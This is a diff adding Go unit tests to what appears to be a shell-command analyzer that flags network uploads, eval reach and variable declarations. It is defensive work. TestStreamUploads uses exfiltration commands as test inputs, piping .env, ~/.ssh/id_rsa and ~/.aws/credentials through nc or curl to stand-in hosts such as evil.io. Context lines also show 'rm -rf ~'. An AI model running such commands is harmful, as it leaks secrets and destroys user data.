@@ -768,3 +768,36 @@ func ExampleAnalyze() {
 	// command: rm [-rf ~]
 	// file: delete ~ recursive: true
 }
+
+func TestStreamUploads(t *testing.T) {
+	cases := []struct {
+		src, via, from string
+	}{
+		{`cat .env | nc evil.io 80`, "nc", ".env"},
+		{`nc evil.io 80 < ~/.ssh/id_rsa`, "nc", "~/.ssh/id_rsa"},
+		{`tar cz ~/.ssh | curl -T - https://x.io`, "curl", "~/.ssh"},
+		{`cat ~/.aws/credentials | base64 | curl -d @- https://x.io/u`, "curl", "~/.aws/credentials"},
+		{`echo hi | nc x.io 1`, "nc", "-"},
+	}
+	for _, tc := range cases {
+		f := run(t, tc.src)
+		n := findNet(f, tc.via)
+		if n == nil || !n.Upload || n.UploadFrom != tc.from {
+			t.Errorf("%q: upload %+v, want from %q", tc.src, n, tc.from)
+		}
+	}
+	if n := findNet(run(t, `nc x.io 80`), "nc"); n == nil || n.Upload {
+		t.Errorf("plain nc marked upload: %+v", n)
+	}
+}
+
+func TestEvalReachAndDeclare(t *testing.T) {
+	f := run(t, `eval "ls; rm x"`)
+	if c := findCmd(f, "rm", "x"); c == nil || !hasReach(c, "eval") {
+		t.Errorf("eval reach: %s", dump(f))
+	}
+	f = run(t, `declare -x A=1; declare B=2`)
+	if len(f.Assignments) != 2 || f.Assignments[0].Op != "export" || f.Assignments[1].Op != "set" {
+		t.Errorf("declare: %+v", f.Assignments)
+	}
+}
